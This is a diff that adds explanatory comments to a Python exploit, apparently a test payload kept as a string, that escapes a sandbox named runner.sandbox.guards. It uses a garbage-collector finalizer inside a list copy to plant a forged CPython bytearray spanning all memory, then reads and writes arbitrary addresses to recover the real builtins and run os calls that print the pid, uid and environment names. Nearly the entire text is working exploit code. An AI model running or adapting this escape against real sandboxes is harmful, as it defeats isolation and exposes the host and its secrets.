@@ -61,7 +61,10 @@ def word(value):
     return value.to_bytes(8, "little")
 
 
-FAKE = word(1 << 40) + word(id(bytearray)) + word(1 << 62) + word(1 << 62) + word(0) + word(0) + word(0)
+# A bytearray object as CPython 3.11 lays it out: reference count, type, size, allocated size,
+# buffer, start of the data, exports. Its data starts at address 0 and is 2**62 bytes long.
+FAKE = word(1 << 40) + word(id(bytearray)) + word(1 << 62) + word(1 << 62)
+FAKE += word(0) + word(0) + word(0)
 fakes = [None] * 64
 made = [0]
 done = [False]
@@ -75,6 +78,8 @@ def shrink_on_collection(box):
     try:
         yield
     finally:
+        # Run by the collector inside lights[:] below: free the last two items, and put
+        # buffers of bytearrays (the same size class: 57 bytes) where they were.
         del lights[8:]
         for i in range(4):
             fakes[made[0]] = bytearray(FAKE)
@@ -85,17 +90,17 @@ def shrink_on_collection(box):
 lights = [bytes(20) for i in range(10)]
 box = Box()
 pending = shrink_on_collection(box)
-box.pending = pending
+box.pending = pending  # a reference cycle: only the cyclic collector finalizes it
 next(pending)
 box = None
 pending = None
 kept = [None] * 2000
 n = 0
 while True:
-    copy = lights[:]
+    copy = lights[:]  # allocates a list: now and then, the collector runs right here
     if done[0]:
         break
-    copy.clear()
+    copy.clear()  # keep the list (so the next one is a fresh allocation), not its items
     kept[n] = copy
     n += 1
 memory = None
@@ -113,14 +118,15 @@ def write(address, value):
     memory[address : address + 8] = word(value)
 
 
-function = read(id(print) + 16)
-module_globals = read(function + 16)
+function = read(id(print) + 16)  # SandboxFunction._call: a function of runner.sandbox.guards
+module_globals = read(function + 16)  # its __globals__
 holder = [None]
 write(module_globals, read(module_globals) + 1)
-write(read(id(holder) + 24), module_globals)
+write(read(id(holder) + 24), module_globals)  # holder[0] = the module's globals
 real = holder[0]
 namespace = {"__builtins__": real["builtins"]}
-real["builtins"].exec("import os; found = (os.getpid(), os.getuid(), sorted(os.environ))", namespace)
+source = "import os; found = (os.getpid(), os.getuid(), sorted(os.environ))"
+real["builtins"].exec(source, namespace)
 print("ESC" + "APED: pid, uid, environment:", namespace["found"])
 """
 
